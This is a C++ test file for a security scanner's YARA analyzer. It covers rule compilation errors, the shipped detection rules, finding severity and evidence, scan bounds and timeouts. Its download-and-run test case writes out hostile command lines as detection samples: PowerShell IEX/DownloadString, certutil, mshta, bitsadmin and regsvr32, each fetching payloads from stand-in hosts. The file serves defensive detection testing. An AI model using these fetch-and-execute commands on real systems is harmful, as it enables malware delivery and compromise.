// YARA tests: compilation diagnostics, the shipped starter rules
// (policies/rules/*.yar) on samples that must and must not match, external
// variables, the analyzer's findings (id, severity from meta, evidence,
// bounded prefix), and timeouts.
#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest/doctest.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <string>
#include <vector>

#include "analyzers/analyzer.h"
#include "analyzers/yara/yara_rules.h"

using namespace sandgate;

namespace {

std::string rules_dir() { return std::string(SANDGATE_SOURCE_ROOT) + "/policies/rules"; }

std::vector<std::string> shipped_rule_files() {
  std::vector<std::string> files;
  for (const auto& e : std::filesystem::directory_iterator(rules_dir()))
    if (e.path().extension() == ".yar") files.push_back(e.path().string());
  std::sort(files.begin(), files.end());
  return files;
}

std::shared_ptr<const YaraRules> shipped_rules() {
  static std::shared_ptr<const YaraRules> rules = [] {
    std::vector<YaraDiagnostic> d;
    auto r = YaraRules::compile(shipped_rule_files(), &d);
    std::string all;
    for (const auto& x : d) all += x.file + ":" + std::to_string(x.line) + ": " + x.message + "\n";
    INFO(all);
    REQUIRE(r != nullptr);
    CHECK(d.empty());  // no errors, and no warnings (slow strings) either
    return r;
  }();
  return rules;
}

// Built at run time so no file of the repository is itself the test file.
std::string eicar() {
  return std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}$") + "EICAR-STANDARD-ANTIVIRUS-" +
         "TEST-FILE!$H+H*";
}

// The same minimal PE32+ the e2e fixtures build: MZ, stub at 0x4E, PE at 0x80.
std::string minimal_pe() {
  std::string b(0x400, '\0');
  auto put = [&](size_t o, uint64_t v, int n) {
    for (int i = 0; i < n; ++i) b[o + size_t(i)] = char(v >> (8 * i));
  };
  b[0] = 'M';
  b[1] = 'Z';
  put(2, 0x90, 2);
  put(4, 3, 2);
  put(8, 4, 2);
  put(12, 0xFFFF, 2);
  put(0x3C, 0x80, 4);
  std::string stub = std::string("\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21", 14) +
                     "This program cannot be run in DOS mode.\r\r\n$";
  b.replace(0x40, stub.size(), stub);
  b.replace(0x80, 4, std::string("PE\0\0", 4));
  put(0x84, 0x8664, 2);
  return b;
}

std::string hex(const std::string& s) {
  static const char* d = "0123456789abcdef";
  std::string out;
  for (unsigned char c : s) {
    out.push_back(d[c >> 4]);
    out.push_back(d[c & 15]);
  }
  return out;
}

std::vector<std::string> matched(const std::string& data, const std::string& label,
                                 const std::string& name = "sample") {
  YaraScanner scanner(shipped_rules());
  YaraVariables v;
  v.filename = name;
  v.type_label = label;
  v.channel = "mail";
  auto r = scanner.scan({reinterpret_cast<const unsigned char*>(data.data()), data.size()}, v, 5);
  CHECK(r.error.empty());
  CHECK_FALSE(r.timed_out);
  std::vector<std::string> names;
  for (const auto& m : r.matches) names.push_back(m.rule);
  return names;
}

bool has(const std::vector<std::string>& v, const std::string& s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

Object object(std::string name, std::string label, std::string bytes, int depth = 0) {
  Object o;
  o.name = name;
  o.path = "root/" + name;
  o.depth = depth;
  o.type.label = std::move(label);
  o.size = bytes.size();
  o.bytes = memory_source(std::move(bytes));
  return o;
}

// Runs only the YARA analyzer of a fresh analyzer set over obj.
void run_yara(Object& obj) {
  auto all = AnalyzerRegistry::instance().create_all();
  bool found = false;
  for (auto& a : all)
    if (a->name() == "yara") {
      a->analyze(obj);
      found = true;
    }
  REQUIRE(found);
}

const Finding* find(const Object& o, const std::string& id) {
  for (const auto& f : o.findings)
    if (f.id == id) return &f;
  return nullptr;
}

}  // namespace

TEST_CASE("a rule file that does not compile is reported with its file and line") {
  std::vector<YaraDiagnostic> d;
  auto r = YaraRules::compile_text(
      "rule ok { condition: true }\n\nrule broken { condition: $nope }\n", "mem.yar", &d);
  CHECK(r == nullptr);
  REQUIRE_FALSE(d.empty());
  CHECK(d[0].file == "mem.yar");
  CHECK(d[0].line == 3);
  CHECK_FALSE(d[0].warning);
  CHECK(d[0].message.find("$nope") != std::string::npos);
}

TEST_CASE("every broken file is reported, not only the first") {
  auto dir = std::filesystem::temp_directory_path() / ("sgyara-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  auto write = [&](const std::string& name, const std::string& text) {
    std::string p = (dir / name).string();
    FILE* f = std::fopen(p.c_str(), "w");
    REQUIRE(f);
    std::fputs(text.c_str(), f);
    std::fclose(f);
    return p;
  };
  std::string a = write("a.yar", "rule a {\n condition: nonsense\n}\n");
  std::string b = write("b.yar", "rule b { condition: true }\n");
  std::string c = write("c.yar", "\n\nrule c { strings: $x = \"x\" condition: $y }\n");
  std::string inc = write("inc.yar", "include \"b.yar\"\nrule i { condition: true }\n");
  std::vector<YaraDiagnostic> d;
  CHECK(YaraRules::compile({a, b, c}, &d) == nullptr);
  bool saw_a = false, saw_c = false;
  for (const auto& x : d) {
    if (x.file == a && x.line == 2) saw_a = true;
    if (x.file == c && x.line == 3) saw_c = true;
  }
  CHECK(saw_a);
  CHECK(saw_c);

  SUBCASE("includes are disabled: every rule file is named by the policy") {
    std::vector<YaraDiagnostic> d2;
    CHECK(YaraRules::compile({inc}, &d2) == nullptr);
    REQUIRE_FALSE(d2.empty());
    CHECK(d2[0].file == inc);
    CHECK(d2[0].message.find("include") != std::string::npos);
  }
  SUBCASE("duplicate rule names across files are an error (ids must be unique)") {
    std::string b2 = write("b2.yar", "rule b { condition: false }\n");
    std::vector<YaraDiagnostic> d3;
    CHECK(YaraRules::compile({b, b2}, &d3) == nullptr);
    REQUIRE_FALSE(d3.empty());
    CHECK(d3[0].file == b2);
  }
  SUBCASE("good files compile and list their public rules") {
    std::vector<YaraDiagnostic> d4;
    auto r = YaraRules::compile({b}, &d4);
    REQUIRE(r != nullptr);
    CHECK(r->rule_names() == std::vector<std::string>{"b"});
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("shipped rules: EICAR") {
  CHECK(has(matched(eicar(), "text", "eicar.com"), "eicar_test_file"));
  CHECK(has(matched(eicar() + "\r\n", "text"), "eicar_test_file"));
  // Not at the start, or inside a longer file: not the test file.
  CHECK_FALSE(has(matched("x" + eicar(), "text"), "eicar_test_file"));
  CHECK_FALSE(has(matched(eicar() + std::string(200, 'A'), "text"), "eicar_test_file"));
}

TEST_CASE("shipped rules: an executable inside a document") {
  std::string pe = minimal_pe();
  // An OLE package stream: a header, then the program.
  std::string package =
      std::string("\x10\x04\x00\x00\x02\x00", 6) + "Job.exe" + std::string(40, '\0') + pe;
  CHECK(has(matched(package, "data"), "embedded_pe_in_document"));
  CHECK(has(matched("%PDF-1.4\n" + pe, "pdf"), "embedded_pe_in_document"));
  // The program itself, or an archive holding it, is not "embedded".
  CHECK_FALSE(has(matched(pe, "pe"), "embedded_pe_in_document"));
  CHECK_FALSE(has(matched(pe, "data"), "embedded_pe_in_document"));
  CHECK_FALSE(has(matched("PK\x03\x04" + pe, "zip"), "embedded_pe_in_document"));
  // A stub text without an MZ header where it belongs is no executable.
  CHECK_FALSE(has(matched(std::string(200, ' ') + "This program cannot be run in DOS mode", "text"),
                  "embedded_pe_in_document"));
  // RTF \objdata carries the bytes hex-encoded.
  std::string rtf = "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000" + hex(pe) + "}}}";
  CHECK(has(matched(rtf, "rtf"), "embedded_pe_hex_in_rtf"));
  CHECK_FALSE(has(matched("{\\rtf1 hello 4d5a}", "rtf"), "embedded_pe_hex_in_rtf"));
}

TEST_CASE("shipped rules: download-and-run idioms") {
  const std::string lol = "download_and_run_lolbin", ps = "download_and_run_powershell";
  CHECK(has(matched("powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                    "script"),
            ps));
  CHECK(
      has(matched("cmd /c powershell -EncodedCommand JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA=", "bat"),
          ps));
  CHECK(
      has(matched("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "ps1"),
          ps));
  CHECK(
      has(matched("(new-object system.net.webclient).downloadstring(\"http://e.example/p\") | iex",
                  "ps1"),
          ps));
  CHECK(has(matched("iwr http://e.example/s.ps1 -UseBasicParsing | iex", "text"), ps));
  CHECK(has(matched("certutil.exe -urlcache -split -f http://e.example/a.exe a.exe", "bat"), lol));
  CHECK(has(matched("mshta http://e.example/x.hta", "lnk"), lol));
  CHECK(has(matched("bitsadmin /transfer job http://e.example/a.exe %TEMP%\\a.exe", "bat"), lol));
  CHECK(has(matched("regsvr32 /s /n /u /i:http://e.example/file.sct scrobj.dll", "bat"), lol));
  // Ordinary text about the same tools is not a download-and-run.
  auto none = matched(
      "Use powershell -ExecutionPolicy Bypass -File setup.ps1 to install. certutil -hashfile "
      "a.zip SHA256 prints a checksum. Open the HTA with mshta.exe from the share.",
      "text");
  CHECK_FALSE(has(none, ps));
  CHECK_FALSE(has(none, lol));
}

TEST_CASE("external variables reach the rules") {
  std::vector<YaraDiagnostic> d;
  auto rules = YaraRules::compile_text(
      "rule vars { condition: filename == \"a.pdf.exe\" and extension == \"exe\" and "
      "type_label == \"pe\" and depth == 2 and channel == \"upload\" }",
      "vars.yar", &d);
  REQUIRE(rules);
  YaraScanner s(rules);
  YaraVariables v{"a.pdf.exe", "exe", "pe", 2, "upload"};
  std::string data = "x";
  auto bytes =
      std::span<const unsigned char>(reinterpret_cast<const unsigned char*>(data.data()), 1);
  CHECK(s.scan(bytes, v, 5).matches.size() == 1);
  v.channel = "mail";
  CHECK(s.scan(bytes, v, 5).matches.empty());
  // Empty input scans too.
  v.channel = "upload";
  CHECK(s.scan({}, v, 5).matches.size() == 1);
}

TEST_CASE("the analyzer: findings, severity from meta, evidence, scope") {
  std::vector<YaraDiagnostic> d;
  auto rules = YaraRules::compile_text(
      "rule tagged : t1 t2 { meta: severity = \"CRITICAL\" description = \"tagged rule\" "
      "strings: $a = \"alpha\" $b = \"beta\" $c = \"gamma\" condition: $a or $b or $c }\n"
      "rule plain { strings: $p = \"plainword\" condition: $p }\n"
      "rule bogus_severity { meta: severity = \"extreme\" strings: $q = \"bogus\" condition: $q }\n"
      "private rule hidden { strings: $h = \"alpha\" condition: $h }\n"
      "rule at_channel { condition: channel == \"mail\" and filename == \"n.txt\" and depth == 1 "
      "}\n",
      "t.yar", &d);
  REQUIRE(rules);

  SUBCASE("no scan context: nothing happens") {
    Object o = object("n.txt", "text", "alpha plainword");
    run_yara(o);
    CHECK(o.findings.empty());
  }
  SUBCASE("matches become yara.RULE findings") {
    YaraScanScope scope(rules, "mail");
    Object o = object("n.txt", "text", "alpha gamma plainword bogus", 1);
    run_yara(o);
    const Finding* t = find(o, "yara.tagged");
    REQUIRE(t);
    CHECK(t->severity == Severity::critical);
    CHECK(t->evidence.find("tags=t1,t2") != std::string::npos);
    CHECK(t->evidence.find("strings=$a,$c") != std::string::npos);
    CHECK(t->message.find("tagged rule") != std::string::npos);
    const Finding* p = find(o, "yara.plain");
    REQUIRE(p);
    CHECK(p->severity == Severity::medium);  // no severity meta
    const Finding* b = find(o, "yara.bogus_severity");
    REQUIRE(b);
    CHECK(b->severity == Severity::medium);    // unknown severity name
    CHECK(find(o, "yara.hidden") == nullptr);  // private rules are not findings
    CHECK(find(o, "yara.at_channel") != nullptr);
  }
  SUBCASE("the scope ends with the scan") {
    { YaraScanScope scope(rules, "mail"); }
    Object o = object("n.txt", "text", "alpha");
    run_yara(o);
    CHECK(o.findings.empty());
  }
  SUBCASE("a big object is scanned up to 16 MiB and the evidence says so") {
    YaraScanScope scope(rules, "upload");
    std::string big(17u << 20, 'z');
    big.replace(0, 5, "alpha");
    big.replace(big.size() - 9, 9, "plainword");  // past the bound: not seen
    Object o = object("big.bin", "data", big);
    run_yara(o);
    const Finding* t = find(o, "yara.tagged");
    REQUIRE(t);
    CHECK(t->evidence.find("scanned the first 16777216 of 17825792 bytes") != std::string::npos);
    CHECK(find(o, "yara.plain") == nullptr);
    // Said even when nothing matched in the window: the rest was not seen.
    const Finding* partial = find(o, "yara.partial");
    REQUIRE(partial);
    CHECK(partial->evidence == "scanned the first 16777216 of 17825792 bytes");
    Object quiet = object("quiet.bin", "data", std::string(17u << 20, 'z'));
    run_yara(quiet);
    REQUIRE(quiet.findings.size() == 1);
    CHECK(quiet.findings[0].id == "yara.partial");
    Object small = object("small.bin", "data", std::string(16u << 20, 'z'));
    run_yara(small);
    CHECK(small.findings.empty());
  }
}

TEST_CASE("a scan that runs out of time is reported, not hung") {
  std::vector<YaraDiagnostic> d;
  // Quadratic in the input: far more than a second on 64 KiB.
  auto rules = YaraRules::compile_text(
      "rule slow { condition: for all i in (0..filesize - 1) : "
      "(for all j in (0..filesize - 1) : (uint8(i) + uint8(j) < 1000)) }",
      "slow.yar", &d);
  REQUIRE(rules);
  YaraScanner s(rules);
  std::string data(64 << 10, 'a');
  auto r = s.scan({reinterpret_cast<const unsigned char*>(data.data()), data.size()}, {}, 1);
  CHECK(r.timed_out);
  CHECK(r.matches.empty());
}
